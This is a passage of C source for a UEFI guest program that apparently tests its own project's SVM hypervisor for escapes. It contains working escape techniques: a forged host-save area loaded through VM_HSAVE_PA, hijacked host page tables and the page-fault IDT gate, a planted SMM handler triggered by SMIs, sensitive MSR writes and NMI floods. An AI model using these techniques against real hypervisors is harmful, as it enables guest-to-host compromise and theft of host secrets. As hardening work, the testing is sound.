/* HOSTILE.EFI, the CPU's ways out: MSRs (the SVM ones above all: a forged host-save area),
 * the host's state in guest memory (its page tables and IDT), SMI and INIT. */
#include "guest/hostile/hostile.h"

#include "guest/lib/guest.h"
#include "common/report.h"
#include "hypervisor/svm/svm.h"
#include "common/x86_tables.h"

#define APIC_ICR_LOW 0x300u
#define APIC_ICR_HIGH 0x310u
#define APIC_LVT_TIMER 0x320u
#define APIC_LVT_LINT0 0x350u
#define APIC_LVT_LINT1 0x360u
#define APIC_LVT_ERROR 0x370u
#define APIC_TIMER_INIT 0x380u
#define APIC_TIMER_DIVIDE 0x3E0u
#define SMM_ENTRY 0x38000ull
#define SMM_SAVE 0x3FE00ull

/* ---- MSRs, each refusal a #GP the handler counts and skips (RDMSR and WRMSR: 2 bytes) ---- */

static bool try_rdmsr(uint32_t msr, uint64_t *v)
{
    uint64_t before = gp_count();
    uint32_t lo = 0, hi = 0;
    hostile_gp_skip = 2;
    __asm__ volatile("rdmsr" : "+a"(lo), "+d"(hi) : "c"(msr) : "memory");
    *v = (uint64_t)hi << 32 | lo;
    return gp_count() == before;
}

static bool try_wrmsr(uint32_t msr, uint64_t v)
{
    uint64_t before = gp_count();
    hostile_gp_skip = 2;
    __asm__ volatile("wrmsr" : : "c"(msr), "a"((uint32_t)v), "d"((uint32_t)(v >> 32)) : "memory");
    return gp_count() == before;
}

/* A hypercall that may #UD (VMMCALL without EFER.SVME): 3 bytes skipped. */
static uint64_t try_version(bool *faulted)
{
    uint64_t before = gp_count();
    struct hc_version_block v = {0};
    hostile_gp_skip = 3;
    uint64_t st = hvmcall(hc_rax(HC_VERSION), (uint64_t)(uintptr_t)&v, sizeof v);
    *faulted = gp_count() != before;
    return st;
}

/* A VMCB segment at 'at' (a struct vmcb_segment in the forged page) from the live GDT. */
static void vmcb_segment(uint8_t *at, uint16_t sel, const struct x86_descriptor_pointer *gdt)
{
    struct vmcb_segment s;
    svm_segment_from_gdt(&s, sel, gdt);
    __builtin_memcpy(at, &s, sizeof s);
}

#define SAVE 0x400u
static void put64(uint8_t *page, unsigned off, uint64_t v)
{
    __builtin_memcpy(page + off, &v, 8);
}

/* The forged host-save area: the next #VMEXIT loads this as the host's state and runs
 * hostile_hsave_stub in host mode (no nested paging), which reads the secret, marks the
 * canary, puts VM_HSAVE_PA back and goes on where the real host would have. */
static uint64_t hsave_exploit(struct hostile *h, uint64_t orig)
{
    const char *C = "msr";
    uint64_t fake_pa = 0, stack_pa = 0;
    uint8_t *fake = hostile_pages(1, &fake_pa), *stack = hostile_pages(2, &stack_pa);
    if (!fake || !stack) {
        hl(h, C, "wrmsr VM_HSAVE_PA: no pages for the forged host-save area");
        return 0;
    }
    struct x86_descriptor_pointer gdt, idt;
    __asm__ volatile("sgdt %0" : "=m"(gdt));
    __asm__ volatile("sidt %0" : "=m"(idt));
    uint16_t cs, ss, ds, es;
    __asm__ volatile("mov %%cs, %0" : "=r"(cs));
    __asm__ volatile("mov %%ss, %0" : "=r"(ss));
    __asm__ volatile("mov %%ds, %0" : "=r"(ds));
    __asm__ volatile("mov %%es, %0" : "=r"(es));
    vmcb_segment(fake + SAVE + 0x00, es, &gdt);
    vmcb_segment(fake + SAVE + 0x10, cs, &gdt);
    vmcb_segment(fake + SAVE + 0x20, ss, &gdt);
    vmcb_segment(fake + SAVE + 0x30, ds, &gdt);
    uint32_t gl = gdt.limit, il = idt.limit;
    __builtin_memcpy(fake + SAVE + 0x64, &gl, 4);
    put64(fake, SAVE + 0x68, gdt.base);
    __builtin_memcpy(fake + SAVE + 0x84, &il, 4);
    put64(fake, SAVE + 0x88, idt.base);
    uint64_t efer = 0;
    if (!try_rdmsr(0xC0000080u, &efer) || !(efer & (1u << 10)))
        efer = 0xD01; /* SCE, LME, LMA, NXE */
    put64(fake, SAVE + 0xD0, efer | (1u << 12)); /* the host runs VMRUN: SVME */
    put64(fake, SAVE + 0x148, read_cr(4));
    put64(fake, SAVE + 0x150, read_cr(3));
    put64(fake, SAVE + 0x158, read_cr(0));
    put64(fake, SAVE + 0x160, 0x400);      /* DR7 */
    put64(fake, SAVE + 0x168, 0xFFFF0FF0); /* DR6 */
    put64(fake, SAVE + 0x170, 0x2);        /* RFLAGS: interrupts off */
    put64(fake, SAVE + 0x178, (uint64_t)(uintptr_t)hostile_hsave_stub);
    put64(fake, SAVE + 0x1D8, stack_pa + 2 * 4096 - 64);
    put64(fake, SAVE + 0x1F8, 0);
    hostile_stub_target = h->target_pa;
    hostile_stub_marker = HOSTILE_MARKER ^ 1;
    hostile_stub_orig_hsave = orig;
    hostile_stub_ran = 0;
    hostile_stub_secret = 0;

    bool irq = irq_save();
    bool accepted = try_wrmsr(0xC0010117u, fake_pa);
    bool ud = false;
    uint64_t st = ~0ull;
    if (accepted)
        st = try_version(&ud); /* the #VMEXIT that loads the forged host state */
    irq_restore(irq);
    uint64_t now = 0;
    bool readable = try_rdmsr(0xC0010117u, &now);
    if (accepted && readable && now != orig)
        try_wrmsr(0xC0010117u, orig); /* emulated, not used: put back anyway */
    attempt(h, C, accepted, "wrmsr VM_HSAVE_PA = 0x%lx (a forged host-save area): %s", fake_pa,
            accepted ? "accepted" : "#GP");
    if (accepted) {
        bool ran = hostile_stub_ran != 0;
        attempt(h, C, ran,
                "next #VMEXIT (HC_VERSION 0x%lx%s): forged host state %s; in host mode read 0x%lx at 0x%lx, marked "
                "0x%lx; VM_HSAVE_PA now 0x%lx",
                st, ud ? ", #UD" : "", ran ? "LOADED, our code ran as the host" : "not used", hostile_stub_secret,
                h->target_pa, h->target_pa + 8, now);
    }
    hostile_free(fake_pa, 1);
    hostile_free(stack_pa, 2);
    return hostile_stub_ran ? hostile_stub_secret : 0;
}

struct msr_case {
    uint32_t msr;
    const char *name;
};

void class_msr(struct hostile *h)
{
    const char *C = "msr";
    install_gp(true);
    uint64_t secret = 0;

    /* VM_HSAVE_PA: the host's state at every #VMEXIT. */
    uint64_t hsave = 0;
    bool r = try_rdmsr(0xC0010117u, &hsave);
    attempt(h, C, r, "rdmsr VM_HSAVE_PA 0xc0010117: %s 0x%lx", r ? "read" : "#GP", hsave);
    if (r && hsave)
        secret = hsave_exploit(h, hsave);
    else
        hl(h, C, "wrmsr VM_HSAVE_PA not tried: without the host's own value the host could not be resumed");

    /* VM_CR: SVMDIS (bit 4) and LOCK (bit 3), cleared then set, then put back. */
    uint64_t vmcr = 0;
    r = try_rdmsr(0xC0010114u, &vmcr);
    hl(h, C, "rdmsr VM_CR 0xc0010114: %s 0x%lx (a read may be emulated: the writes tell)", r ? "read" : "#GP", vmcr);
    bool w1 = try_wrmsr(0xC0010114u, vmcr & ~0x18ull);
    uint64_t after1 = 0;
    try_rdmsr(0xC0010114u, &after1);
    attempt(h, C, w1, "wrmsr VM_CR = 0x%lx (SVMDIS and LOCK clear): %s, reads 0x%lx", vmcr & ~(uint64_t)0x18,
            w1 ? "accepted" : "#GP", after1);
    bool w2 = try_wrmsr(0xC0010114u, vmcr | 0x18);
    uint64_t after2 = 0;
    try_rdmsr(0xC0010114u, &after2);
    attempt(h, C, w2, "wrmsr VM_CR = 0x%lx (SVMDIS and LOCK set): %s, reads 0x%lx", vmcr | 0x18,
            w2 ? "accepted" : "#GP", after2);
    if (w1 || w2)
        try_wrmsr(0xC0010114u, vmcr);

    /* The rest of the SVM and SMM block, SYSCFG, HWCR: read, write back what was read. */
    static const struct msr_case rest[] = {
        {0xC0010110u, "0xc0010110"}, {0xC0010111u, "SMM_BASE"},  {0xC0010112u, "SMM_ADDR (TSEG base)"},
        {0xC0010113u, "SMM_MASK"},   {0xC0010115u, "IGNNE"},     {0xC0010116u, "SMM_CTL"},
        {0xC0010118u, "SVM_KEY"},    {0xC0010119u, "0xc0010119"}, {0xC001011Au, "0xc001011a"},
        {0xC001011Bu, "0xc001011b"}, {0xC001011Cu, "0xc001011c"}, {0xC001011Du, "0xc001011d"},
        {0xC001011Eu, "0xc001011e"}, {0xC001011Fu, "0xc001011f"}, {0xC0010010u, "SYSCFG"},
        {0xC0010015u, "HWCR"},
    };
    for (unsigned i = 0; i < sizeof rest / sizeof rest[0]; i++) {
        uint64_t v = 0;
        bool rd = try_rdmsr(rest[i].msr, &v);
        bool wr = try_wrmsr(rest[i].msr, v);
        attempt(h, C, rd || wr, "0x%x %s: rdmsr %s 0x%lx, wrmsr of that value %s", rest[i].msr, rest[i].name,
                rd ? "read" : "#GP", v, wr ? "accepted" : "#GP");
    }
    /* SMM_ADDR over the region: TSEG would cover the hypervisor (put back at once). */
    uint64_t smm_addr = 0;
    bool rd = try_rdmsr(0xC0010112u, &smm_addr);
    bool wr = try_wrmsr(0xC0010112u, h->o->region_base);
    uint64_t smm_addr_now = 0;
    try_rdmsr(0xC0010112u, &smm_addr_now);
    if (wr && rd)
        try_wrmsr(0xC0010112u, smm_addr);
    attempt(h, C, wr, "wrmsr SMM_ADDR = the region's base 0x%lx: %s, reads 0x%lx", h->o->region_base,
            wr ? "accepted" : "#GP", smm_addr_now);

    /* TSC: the host's clock too. */
    uint64_t tsc = tsc_read();
    wr = try_wrmsr(0x10u, tsc);
    attempt(h, C, wr, "wrmsr TSC 0x10 = 0x%lx (its own value): %s", tsc, wr ? "accepted" : "#GP");

    /* EFER without SVME: the guest has its own view; SVME must stay set underneath. */
    uint64_t efer = 0;
    rd = try_rdmsr(0xC0000080u, &efer);
    bool irq = irq_save();
    wr = try_wrmsr(0xC0000080u, efer & ~(1ull << 12));
    bool ud = false;
    uint64_t st = try_version(&ud);
    if (wr)
        try_wrmsr(0xC0000080u, efer);
    irq_restore(irq);
    attempt(h, C, ud || (st != 0 && wr),
            "wrmsr EFER = 0x%lx (SVME clear; read 0x%lx): %s; a hypercall after it: %s 0x%lx", efer & ~(uint64_t)(1u << 12),
            efer, wr ? "accepted" : "#GP", ud ? "#UD, SVME REALLY CLEAR" : "status", st);

    /* IA32_APIC_BASE: move the APIC, then x2APIC. */
    uint64_t apic = 0;
    rd = try_rdmsr(0x1Bu, &apic);
    uint64_t moved = (apic & ~0x000FFFFFFFFFF000ull) | 0xFEE10000ull;
    irq = irq_save();
    wr = try_wrmsr(0x1Bu, moved);
    uint64_t now = 0;
    try_rdmsr(0x1Bu, &now);
    if (wr)
        try_wrmsr(0x1Bu, apic);
    irq_restore(irq);
    attempt(h, C, wr, "wrmsr IA32_APIC_BASE = 0x%lx (read 0x%lx; the APIC moved): %s, reads 0x%lx", moved, apic,
            wr ? "accepted" : "#GP", now);
    irq = irq_save();
    wr = try_wrmsr(0x1Bu, apic | (1u << 10));
    try_rdmsr(0x1Bu, &now);
    if (wr) {
        try_wrmsr(0x1Bu, apic & ~((1ull << 10) | (1ull << 11))); /* x2APIC -> disabled -> xAPIC */
        try_wrmsr(0x1Bu, apic);
    }
    irq_restore(irq);
    attempt(h, C, wr, "wrmsr IA32_APIC_BASE = 0x%lx (x2APIC on): %s, reads 0x%lx", apic | (1u << 10),
            wr ? "accepted" : "#GP", now);
    /* x2APIC's ICR: an INIT de-assert to self (harmless if it reached the APIC). */
    uint64_t id = 0;
    rd = try_rdmsr(0x802u, &id);
    wr = try_wrmsr(0x830u, 0x48500ull);
    attempt(h, C, rd || wr, "x2APIC ID 0x802 rdmsr %s, ICR 0x830 wrmsr (INIT de-assert to self) %s",
            rd ? "read" : "#GP", wr ? "ACCEPTED" : "#GP");
    install_gp(false);
    audit(h, C, secret);
}

/* ---- host state: the host runs on the guest's page tables and IDT ---- */

#define PTE_P 0x1ull
#define PTE_W 0x2ull
#define PTE_US 0x4ull
#define PTE_PS 0x80ull
#define PTE_G 0x100ull
#define PTE_NX (1ull << 63)
#define ADDR 0x000FFFFFFFFFF000ull

static uint64_t *table(uint64_t entry)
{
    return (uint64_t *)(uintptr_t)(entry & ADDR);
}

static void wp(bool on)
{
    uint64_t cr0 = read_cr(0);
    cr0 = on ? cr0 | (1u << 16) : cr0 & ~(uint64_t)(1u << 16);
    __asm__ volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
}

static void flush_all(void)
{
    uint64_t cr4 = read_cr(4), cr3 = read_cr(3);
    if (cr4 & (1u << 7)) { /* PGE: global entries go too */
        __asm__ volatile("mov %0, %%cr4" : : "r"(cr4 & ~(uint64_t)(1u << 7)) : "memory");
        __asm__ volatile("mov %0, %%cr4" : : "r"(cr4) : "memory");
    }
    __asm__ volatile("mov %0, %%cr3" : : "r"(cr3) : "memory");
}


void class_host_state(struct hostile *h)
{
    const char *C = "host-state";
    uint64_t cr4 = read_cr(4);
    if (cr4 & (1u << 12)) {
        hl(h, C, "5-level paging in use: not tried");
        audit(h, C, 0);
        return;
    }
    uint64_t code_pa = 0, tables_pa = 0;
    uint8_t *code = hostile_pages(1, &code_pa);
    uint8_t *tables = hostile_pages(5, &tables_pa);
    if (!code || !tables) {
        hl(h, C, "no pages for the attack");
        audit(h, C, 0);
        return;
    }
    /* The code page P: mov 0x30(%rax), %eax (the APIC's version register); ret. */
    __builtin_memset(code, 0xCC, 4096);
    code[0] = 0x8B, code[1] = 0x40, code[2] = 0x30, code[3] = 0xC3;

    uint64_t *pml4 = table(read_cr(3));
    int slot = -1;
    for (int i = 255; i >= 8 && slot < 0; i--)
        if (!(pml4[i] & PTE_P))
            slot = i;
    uint64_t *pdpt_p = (uint64_t *)(uintptr_t)pml4[(code_pa >> 39) & 511];
    if (slot < 0 || !((uint64_t)(uintptr_t)pdpt_p & PTE_P)) {
        hl(h, C, "no free PML4 slot for the alias, or P unmapped: not tried");
        hostile_free(code_pa, 1);
        hostile_free(tables_pa, 5);
        audit(h, C, 0);
        return;
    }
    uint64_t alias = (uint64_t)slot << 39;
    uint64_t t_pdpt = tables_pa, t_pd = tables_pa + 4096, t_pt = tables_pa + 2 * 4096;
    uint64_t t_split_pd = tables_pa + 3 * 4096, t_split_pt = tables_pa + 4 * 4096;
    /* alias L -> P in tables of ours */
    ((uint64_t *)(uintptr_t)t_pdpt)[0] = t_pd | PTE_P | PTE_W;
    ((uint64_t *)(uintptr_t)t_pd)[0] = t_pt | PTE_P | PTE_W;
    ((uint64_t *)(uintptr_t)t_pt)[0] = code_pa | PTE_P | PTE_W;

    /* P's own mapping, split down to 4 KiB in tables of ours (installed below) */
    uint64_t *pdpt = table(pml4[(code_pa >> 39) & 511]);
    uint64_t *pdpte_at = &pdpt[(code_pa >> 30) & 511], pdpte = *pdpte_at, new_pdpte = pdpte;
    uint64_t *pd;
    if (pdpte & PTE_PS) {
        uint64_t *spd = (uint64_t *)(uintptr_t)t_split_pd;
        uint64_t base = pdpte & 0x000FFFFFC0000000ull, attrs = pdpte & (0x1FFFull | PTE_NX);
        for (unsigned j = 0; j < 512; j++)
            spd[j] = (base + ((uint64_t)j << 21)) | attrs;
        new_pdpte = t_split_pd | (pdpte & (PTE_P | PTE_W | PTE_US)) | 0x20;
        pd = spd;
    } else {
        pd = table(pdpte);
    }
    uint64_t *pde_at = &pd[(code_pa >> 21) & 511], pde = *pde_at, new_pde = pde;
    uint64_t *pt;
    if (pde & PTE_PS) {
        uint64_t *spt = (uint64_t *)(uintptr_t)t_split_pt;
        uint64_t base = pde & 0x000FFFFFFFE00000ull;
        uint64_t attrs = (pde & (0x7Full | PTE_G | PTE_NX)) | ((pde & 0x1000) ? 0x80 : 0);
        attrs &= ~PTE_PS;
        for (unsigned k = 0; k < 512; k++)
            spt[k] = (base + ((uint64_t)k << 12)) | attrs;
        new_pde = t_split_pt | (pde & (PTE_P | PTE_W | PTE_US)) | 0x20;
        pt = spt;
    } else {
        pt = table(pde);
    }
    uint64_t *pte_at = &pt[(code_pa >> 12) & 511];
    uint64_t pte_present = *pte_at;
    hl(h, C, "P = 0x%lx, alias L = 0x%lx (PML4 slot %d); P's mapping: %s, split into 4 KiB entries of ours",
       code_pa, alias, slot, (pdpte & PTE_PS) ? "a 1 GiB page" : (pde & PTE_PS) ? "a 2 MiB page" : "4 KiB entries");

    /* IDT vector 14 -> H, which chains to the firmware's handler for any other fault. */
    struct x86_idt_gate *gate = &x86_current_idt()[14];
    hostile_pf_old = x86_gate_handler(gate);
    hostile_pf_page = code_pa;
    hostile_pf_target = h->target_pa;
    hostile_pf_marker = HOSTILE_MARKER ^ 2;
    hostile_pf_pte = (uint64_t)(uintptr_t)pte_at;
    hostile_pf_pte_value = pte_present;
    hostile_pf_ran = 0;
    hostile_pf_secret = 0;
    hostile_pf_rsp = 0;

    install_gp(true);
    uint64_t gp_before = gp_count();
    bool irq = irq_save();
    struct x86_idt_gate saved = *gate;
    wp(false);
    *gate = x86_interrupt_gate((uint64_t)(uintptr_t)hostile_pf_handler, saved.selector, 0);
    pml4[slot] = t_pdpt | PTE_P | PTE_W;
    *pdpte_at = new_pdpte;
    *pde_at = new_pde;
    *pte_at = pte_present & ~PTE_P; /* P not present at its own address */
    flush_all();
    hostile_gp_skip = 3; /* if the hypervisor refuses the emulation: past the MOV, to the RET */
    uint32_t version = (uint32_t)hostile_apic_load(alias, HOSTILE_APIC);
    /* everything back */
    *pte_at = pte_present;
    *pde_at = pde;
    *pdpte_at = pdpte;
    pml4[slot] = 0;
    *gate = saved;
    flush_all();
    wp(true);
    irq_restore(irq);
    bool gp = gp_count() != gp_before;
    install_gp(false);

    bool ran = hostile_pf_ran != 0;
    bool in_region = hostile_pf_rsp >= h->o->region_base && hostile_pf_rsp < h->region_end;
    attempt(h, C, ran,
            "APIC read at L (the host fetches the MOV through our page tables, P not present): guest got 0x%x%s; H "
            "ran %lu time(s)%s, on stack 0x%lx%s; read 0x%lx at 0x%lx, marked 0x%lx",
            version, gp ? " after #GP" : "", hostile_pf_ran, ran ? " IN HOST MODE (the host took our #PF)" : "",
            hostile_pf_rsp, in_region ? " (the host's, in its region)" : "", hostile_pf_secret, h->target_pa,
            h->target_pa + 8);
    uint64_t secret = ran ? hostile_pf_secret : 0;
    hostile_pf_page = 0;
    hostile_free(code_pa, 1);
    hostile_free(tables_pa, 5);
    audit(h, C, secret);
}

/* ---- the local APIC, through the hypervisor's emulation ---- */

static uint32_t apic_read(uint32_t off)
{
    return hmmio_read(HOSTILE_APIC + off);
}

static void apic_write(uint32_t off, uint32_t v)
{
    hmmio_write(HOSTILE_APIC + off, v);
}

/* Busy wait of up to us microseconds (no firmware call) until *flag changes from before. */
static bool wait_change(volatile uint32_t *flag, uint32_t before, uint64_t us)
{
    uint64_t t0 = tsc_read(), per = hostile_tsc_per_us;
    while (*flag == before && (tsc_read() - t0) / per < us)
        __asm__ volatile("pause");
    return *flag != before;
}

/* ---- the I/O APIC (0xFEC00000 on q35), through the hypervisor's emulation ---- */

#define IOAPIC 0xFEC00000ull
#define IOAPIC_PIT_PIN 2 /* the PIT's IRQ 0, which the firmware's timer keeps ticking */

static uint32_t ioapic_read(uint32_t reg)
{
    hmmio_write(IOAPIC, reg);
    return hmmio_read(IOAPIC + 0x10);
}

static void ioapic_write(uint32_t reg, uint32_t v)
{
    hmmio_write(IOAPIC, reg);
    hmmio_write(IOAPIC + 0x10, v);
}

/* Points the PIT's redirection entry at dest with delivery mode `mode` (unmasked, edge) for
 * 30 ms, then puts it back; returns what the entry read back while it was set. */
static uint32_t ioapic_pit_in_mode(uint32_t dest, uint32_t mode)
{
    uint32_t low = 0x10 + 2 * IOAPIC_PIT_PIN, old_low = ioapic_read(low), old_high = ioapic_read(low + 1);
    ioapic_write(low, old_low | 0x10000); /* masked while it changes */
    ioapic_write(low + 1, dest << 24);
    ioapic_write(low, mode << 8 | 0x30);
    uint32_t now = ioapic_read(low);
    stall_us(30000);
    ioapic_write(low, old_low | 0x10000);
    ioapic_write(low + 1, old_high);
    ioapic_write(low, old_low);
    return now;
}

/* ---- SMI ---- */

static void icr(uint32_t high, uint32_t low)
{
    apic_write(APIC_ICR_HIGH, high);
    apic_write(APIC_ICR_LOW, low);
}

/* ---- NMIs: the hypervisor's own kicks are NMIs, which it intercepts ---- */

/* The hypervisor turns every NMI into an exit (another CPU's kick starts a CPU at an
 * emulated SIPI) and gives the guest's own back. The guest floods it: NMIs to itself and
 * to the other CPU, every way the ICR allows, each to be delivered to its handler, while
 * every CPU stays a guest. Were the host to leave an intercepted NMI pending, the next
 * VMRUN would exit again, for ever. */
enum { NMI_ROUNDS = 200 };

/* Swaps the NMI gate of the running CPU's IDT (the firmware may give each AP its own) with
 * *arg: run on each CPU once to install the counting handler, once more to put it back. */
static VOID EFIAPI swap_nmi_gate(VOID *arg)
{
    struct x86_idt_gate *gate = &x86_current_idt()[2], *other = arg, mine = *gate;
    *gate = *other;
    *other = mine;
}

void class_nmi(struct hostile *h)
{
    const char *C = "nmi";
    uint16_t cs;
    __asm__ volatile("mov %%cs, %0" : "=r"(cs));
    static struct x86_idt_gate gates[8];
    unsigned cpus = h->cpus < 8 ? (unsigned)h->cpus : 8;
    for (unsigned i = 0; i < cpus; i++)
        gates[i] = x86_interrupt_gate((uint64_t)(uintptr_t)hostile_nmi_handler, cs, 0);
    swap_nmi_gate(&gates[0]);
    for (unsigned i = 1; i < cpus && h->mp; i++)
        h->mp->startup_this_ap(h->mp, swap_nmi_gate, i, NULL, 2 * 1000 * 1000, &gates[i], NULL);
    /* other: the ICR names cpu 1; self, others: the CPUs the NMI reaches */
    static const struct {
        uint32_t low;
        bool other, self, others;
        const char *what;
    } ways[] = {{0x44400, false, true, false, "to self (shorthand)"},
                {0x400, true, false, true, "to the other CPU"},
                {0xC4400, false, false, true, "to all excluding self"},
                {0x84400, false, true, true, "to all including self"}};
    for (unsigned w = 0; w < sizeof ways / sizeof ways[0]; w++) {
        unsigned expected = ways[w].self + (ways[w].others ? (unsigned)h->cpus - 1 : 0);
        if (!expected) {
            hl(h, C, "NMI %s: one CPU, no other", ways[w].what);
            continue;
        }
        uint64_t before = __atomic_load_n(&hostile_nmi_count, __ATOMIC_SEQ_CST);
        for (unsigned i = 0; i < NMI_ROUNDS; i++) {
            icr(ways[w].other ? h->apic_id[1] << 24 : 0, ways[w].low);
            stall_us(200); /* apart, so that NMIs to one CPU do not merge */
        }
        stall_us(10000);
        uint64_t got = __atomic_load_n(&hostile_nmi_count, __ATOMIC_SEQ_CST) - before;
        bool alive = every_ap_answers(h, C, ways[w].what);
        hl(h, C, "NMI %s, %u times: %lu delivered to the guest's handler (%u expected)", ways[w].what, NMI_ROUNDS, got,
           NMI_ROUNDS * expected);
        attempt(h, C, !alive, "NMI flood %s: this CPU goes on, %s", ways[w].what,
                alive ? "every AP answers" : "AN AP IS LOST");
    }
    /* The firmware's gates back, then the audit: every CPU still a guest. */
    for (unsigned i = 1; i < cpus && h->mp; i++)
        h->mp->startup_this_ap(h->mp, swap_nmi_gate, i, NULL, 2 * 1000 * 1000, &gates[i], NULL);
    swap_nmi_gate(&gates[0]);
    audit(h, C, 0);
}

static void ioapic_smi(struct hostile *h, const char *C, volatile uint32_t *ran_flag)
{
    uint32_t before = *ran_flag;
    uint32_t now = ioapic_pit_in_mode(h->apic_id[0], 2);
    bool ran = wait_change(ran_flag, before, 20000);
    attempt(h, C, ran, "I/O APIC: the PIT's entry in SMI mode to this CPU, 30 ms (reads 0x%x), put back: handler ran %u "
            "time(s)", now, *ran_flag - before);
}

void class_smi(struct hostile *h)
{
    const char *C = "smi";
    install_gp(true);
    /* The default SMBASE's entry and state-save area, saved to be put back. */
    static uint8_t saved_entry[4096], saved_state[512];
    size_t blob = (size_t)(hostile_smm_end - hostile_smm_start);
    EFI_PHYSICAL_ADDRESS a = SMM_ENTRY, b = SMM_SAVE & ~0xFFFull;
    bool own_entry = !EFI_ERROR(uefi_call_wrapper(BS->AllocatePages, 4, AllocateAddress, EfiBootServicesData, 1, &a));
    bool own_save = !EFI_ERROR(uefi_call_wrapper(BS->AllocatePages, 4, AllocateAddress, EfiBootServicesData, 1, &b));
    __builtin_memcpy(saved_entry, (const void *)(uintptr_t)SMM_ENTRY, 4096);
    __builtin_memcpy(saved_state, (const void *)(uintptr_t)SMM_SAVE, 512);
    __builtin_memcpy((void *)(uintptr_t)SMM_ENTRY, hostile_smm_start, blob);
    struct hostile_smm_data *d =
        (struct hostile_smm_data *)(uintptr_t)(SMM_ENTRY + (size_t)(hostile_smm_data - hostile_smm_start));
    d->ran = 0;
    /* The secret is not read from SMM: under QEMU 7.2 the nested tables still apply there (a
     * run that tried took a nested page fault), and any #VMEXIT taken in SMM (SMM entry
     * cleared EFER.SVME) comes back to a VMRUN that fails, which stops the guest for good.
     * Set smm_reads_secret to try anyway (the handler then first rewrites EFER). */
    static const bool smm_reads_secret = false;
    d->target = smm_reads_secret && h->target_pa < (1ull << 32) ? (uint32_t)h->target_pa : 0;
    d->marker = HOSTILE_MARKER ^ 4;
    d->mine = h->page_pa < (1ull << 32) ? (uint32_t)h->page_pa : 0;
    d->secret = 0;
    d->faults = 0;
    uint64_t efer_view = 0;
    try_rdmsr(0xC0000080u, &efer_view);
    d->efer = smm_reads_secret ? (uint32_t)efer_view : 0;
    *(volatile uint32_t *)h->page = 0;
    hl(h, C, "SMM handler planted at 0x%lx (%lu bytes; pages 0x38000 %s, 0x3f000 %s): it marks 0x%lx, reads 0x%x "
       "and marks 0x%x (0: not tried from SMM)",
       (uint64_t)SMM_ENTRY, (uint64_t)blob, own_entry ? "free, taken" : "in use, saved", own_save ? "free, taken" : "in use, saved",
       h->page_pa, d->target, d->target ? d->target + 8 : 0);
    uint32_t self = apic_read(0x20) >> 24;

    /* ICR: SMI to self, to all excluding self, to all. */
    static const struct {
        uint32_t low;
        const char *what;
    } icrs[] = {{0x40200, "ICR SMI to self"}, {0xC0200, "ICR SMI to all excluding self"}, {0x80200, "ICR SMI to all"}};
    for (unsigned i = 0; i < 3; i++) {
        if (i == 2 && h->cpus > 1) {
            hl(h, C, "%s: not sent on %lu CPUs: they would share the default SMBASE's one state-save area and one "
                     "would resume in the other's state",
               icrs[i].what, (uint64_t)h->cpus);
            continue;
        }
        uint32_t before = d->ran;
        uint64_t g = gp_count();
        icr(0, icrs[i].low);
        bool ran = wait_change(&d->ran, before, 50000);
        try_wrmsr(0xC0000080u, efer_view); /* SVME back underneath, should SMM have lost it */
        attempt(h, C, ran, "%s (ICR 0x%x, APIC id %u)%s: handler ran %u time(s)", icrs[i].what, icrs[i].low, self,
                gp_count() != g ? ", #GP" : "", d->ran - before);
        if (i == 1 && h->cpus > 1)
            every_ap_answers(h, C, icrs[i].what);
    }

    /* LVTs in SMI delivery mode. */
    static const struct {
        uint32_t reg;
        const char *what;
        uint64_t wait_us;
    } lvts[] = {{APIC_LVT_LINT0, "LVT LINT0 (the 8259's INTR) in SMI mode", 60000},
                {APIC_LVT_LINT1, "LVT LINT1 in SMI mode", 5000},
                {APIC_LVT_ERROR, "LVT error in SMI mode (not triggered: an illegal-vector IPI would arrive as vector 0)",
                 5000}};
    for (unsigned i = 0; i < 3; i++) {
        uint32_t old = apic_read(lvts[i].reg), before = d->ran;
        uint64_t g = gp_count();
        apic_write(lvts[i].reg, 0x200);
        uint32_t now = apic_read(lvts[i].reg);
        bool ran = wait_change(&d->ran, before, lvts[i].wait_us);
        apic_write(lvts[i].reg, old);
        try_wrmsr(0xC0000080u, efer_view);
        attempt(h, C, ran, "%s: 0x%x -> 0x200 (reads 0x%x)%s, handler ran %u time(s), put back", lvts[i].what, old, now,
                gp_count() != g ? ", #GP" : "", d->ran - before);
    }
    {
        uint32_t old_lvt = apic_read(APIC_LVT_TIMER), old_div = apic_read(APIC_TIMER_DIVIDE),
                 old_init = apic_read(APIC_TIMER_INIT), before = d->ran;
        apic_write(APIC_TIMER_DIVIDE, 0xB);
        apic_write(APIC_LVT_TIMER, 0x200);
        apic_write(APIC_TIMER_INIT, 0x1000);
        bool ran = wait_change(&d->ran, before, 50000);
        apic_write(APIC_TIMER_INIT, 0);
        apic_write(APIC_LVT_TIMER, old_lvt);
        apic_write(APIC_TIMER_DIVIDE, old_div);
        if (old_init)
            apic_write(APIC_TIMER_INIT, old_init);
        try_wrmsr(0xC0000080u, efer_view);
        attempt(h, C, ran, "LVT timer in SMI mode, initial count 0x1000: handler ran %u time(s); put back (0x%x)",
                d->ran - before, old_lvt);
    }
    ioapic_smi(h, C, &d->ran);
    try_wrmsr(0xC0000080u, efer_view);

    /* The chipset: APMC (port 0xB2) with SMI_EN.APMC_EN and GBL_SMI_EN. */
    uint16_t smi_en_port = (uint16_t)(h->pm_base + 0x30);
    uint32_t smi_en = hinl(smi_en_port);
    houtl(smi_en_port, smi_en | 0x21);
    uint32_t smi_en_now = hinl(smi_en_port);
    uint32_t before = d->ran;
    houtb(0xB3, 0x5A);
    houtb(0xB2, 0x5A);
    bool ran = wait_change(&d->ran, before, 20000);
    try_wrmsr(0xC0000080u, efer_view);
    attempt(h, C, ran || (smi_en_now & 0x21) == 0x21,
            "SMI_EN (port 0x%x) 0x%x -> 0x%x (APMC_EN, GBL_SMI_EN), reads 0x%x; out 0xB3, out 0xB2 = 0x5a: handler ran "
            "%u time(s)",
            smi_en_port, smi_en, smi_en | 0x21, smi_en_now, d->ran - before);

    /* TCO (pm_base + 0x60): read them, then a TCO timeout with TCO_EN: an SMI at the first. */
    uint16_t tco = (uint16_t)(h->pm_base + 0x60);
    uint16_t rld = hinw(tco + 0x0), sts1 = hinw(tco + 0x4), sts2 = hinw(tco + 0x6), cnt1 = hinw(tco + 0x8),
             cnt2 = hinw(tco + 0xA), tmr = hinw(tco + 0x12);
    hl(h, C, "TCO at 0x%x: RLD 0x%x TCO1_STS 0x%x TCO2_STS 0x%x TCO1_CNT 0x%x TCO2_CNT 0x%x TCO_TMR 0x%x", tco, rld,
       sts1, sts2, cnt1, cnt2, tmr);
    if (cnt1 == 0xFFFF || (cnt1 & (1u << 12))) {
